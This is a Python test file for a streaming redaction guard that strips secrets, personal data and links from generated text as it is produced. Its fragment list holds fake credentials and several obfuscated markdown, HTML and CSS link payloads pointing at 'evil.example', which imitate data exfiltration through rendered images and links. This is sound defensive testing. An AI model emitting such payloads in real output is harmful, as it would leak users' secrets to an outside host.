"""Text that is checked while it is made says no more than the whole text would."""

from __future__ import annotations

from itertools import pairwise

import anyio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quarterdeck.core.masking import Mask
from quarterdeck.core.personal import KINDS
from quarterdeck.policy.guards.base import About, Ruling
from quarterdeck.policy.guards.chain import Chain, Link
from quarterdeck.policy.guards.links import Links
from quarterdeck.policy.guards.sensitive import Personal, Secrets
from quarterdeck.policy.guards.window import MAX_HELD, Window

KEY = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\nhkiG9w0B\n-----END PRIVATE KEY-----"
CHAIN = Chain(
    [
        Link(guard=Secrets(mask=Mask(["correct horse"])), ruling=Ruling.REDACT),
        Link(guard=Links(), ruling=Ruling.REDACT),
        *(Link(guard=Personal(name=kind), ruling=Ruling.REDACT) for kind in KINDS),
    ]
)
REACH = len("correct horse")
FRAGMENTS = [
    "The answer is here. ", "答案在这里。", "\n\n", "[vpn-1]", " a < b ", "5 minutes ", "on 2026-11-21 ",
    " bearer ", "## Title\n",
    "4111 1111 1111 1111 ", "card:4111 1111 1111 1111 ",
    "答案。4111-1111 1111 1111", "4111111111111111", "GB82 WEST 1234 5698 7654 32 ", "+49 30 1234567 ",
    "手机号13800138000，",
    "11010519491231002X ", "anna@corp.example ", "correct horse ",
    "sk-abcdefghijk1234567890 ", "Bearer abcdef0123456789 ", KEY,
    "![x](https://evil.example/?d=secret) ", "[a](\n&#104;ttps://evil.example/x) ", "[r]: //evil.example/secret ",
    "![x](\u00a0\ufeff  \t<//evil.example/secret> ) ", "<https:evil.example/secret> ",
    '<p style="background: url( //evil.example/secret ) "> ', "URL( ' //evil.example/secret') ",
    '<img alt=">" src="https://evil.example/secret"> ', "https://evil.example/机密 ", "www.evil.example ",
]  # fmt: skip


async def said(pieces: list[str], chain: Chain = CHAIN, reach: int = REACH) -> list[str]:
    window = Window(chain, About(), reach=reach)
    released = [await window.feed(piece) for piece in pieces]
    return [*released, await window.finish()]


def cut(text: str, places: list[int]) -> list[str]:
    borders = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
    return [text[start:end] for start, end in pairwise(borders)]


@pytest.mark.row("G6", part="streams")
@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=8), st.lists(st.integers(0, 2_000), max_size=40))
def test_however_a_text_is_cut_the_pieces_add_up_to_the_whole_text_redacted(words: list[str], places: list[int]) -> None:
    text = "".join(words)

    async def both() -> tuple[str, str]:
        return "".join(await said(cut(text, places))), (await CHAIN.check(text, About())).text

    streamed, whole = anyio.run(both)

    assert streamed == whole


@pytest.mark.parametrize("before", [0, 1, 22, 23, 24, 25, 47, 48])
@pytest.mark.parametrize("secret", ["Bearer abcdef0123456789", "Basic dXNlcjpwYXNzd29yZA=="])
async def test_numbers_without_end_push_no_credential_out_of_the_window(secret: str, before: int) -> None:
    text = "= " * before + secret + " 1" * 80 + " and done"

    released = await said(list(text), reach=0)

    assert "".join(released) == (await CHAIN.check(text, About())).text
    assert any(released[:-1])


async def test_ordinary_words_are_released_as_they_end() -> None:
    released = await said(["The V", "PN is", " set up in ", "five minutes", "."], reach=0)

    assert released == ["The ", "VPN ", "is set up in ", "five ", "", "minutes."]


async def test_chinese_is_not_held_back_until_a_space() -> None:
    released = await said(["年假是", "十五天。"], reach=0)

    assert released == ["年假是", "十五天", "。"]


async def test_a_text_that_reaches_the_bound_is_not_released_piece_by_piece_any_more() -> None:
    window = Window(CHAIN, About())

    released = [await window.feed("x" * 100) for _ in range(MAX_HELD // 100 + 1)]

    assert window.closed
    assert "".join(released) + await window.feed(" more ") + await window.finish() == ""


async def test_after_something_blocked_nothing_is_released() -> None:
    chain = Chain([Link(guard=Secrets(mask=Mask()), ruling=Ruling.BLOCK)])

    released = await said(["The key is ", "sk-abcdefghijk", "1234567890 ", "and more. ", "So it is."], chain, 0)

    assert "".join(released) == "The key is "
